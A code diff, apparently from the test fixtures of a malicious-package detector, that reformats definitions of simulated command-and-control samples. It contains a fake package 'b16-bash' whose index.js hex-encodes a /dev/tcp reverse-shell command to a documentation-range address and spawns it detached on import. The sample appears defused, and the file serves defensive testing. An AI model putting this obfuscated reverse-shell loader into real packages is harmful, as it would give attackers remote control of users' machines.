@@ -4,7 +4,9 @@ import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant,
 const early = { phase: ['install', 'import'] } as const;
 const contacted = finding('c2.dead-drop', 'critical', ['net.http', ['net.connect', 'net.dns', 'net.http']], early);
 const asked = finding('c2.dead-drop', 'high', ['net.http'], early);
-const shell = finding('c2.reverse-shell', 'critical', ['net.connect', 'process.exec'], { phase: ['install', 'import', 'execute'] });
+const shell = finding('c2.reverse-shell', 'critical', ['net.connect', 'process.exec'], {
+  phase: ['install', 'import', 'execute'],
+});
 
 /** Follows an address found in an answer only inside the ranges simulants may use, and sends one line there. */
 const follow = text`
@@ -203,7 +205,7 @@ export const c2: readonly Simulant[] = [
     packages: [
       pkg('b16-bash', {
         'index.js': armed`
-          const line = Buffer.from('${hex("exec 5<>/dev/tcp/198.51.100.44/9001; sh -n <&5 >&5 2>&5")}', 'hex').toString();
+          const line = Buffer.from('${hex('exec 5<>/dev/tcp/198.51.100.44/9001; sh -n <&5 >&5 2>&5')}', 'hex').toString();
           require('node:child_process').spawn('timeout', ['3', 'bash', '-c', line], { detached: true, stdio: 'ignore', env: {} }).unref();
           module.exports = (rows) => rows;
         `,
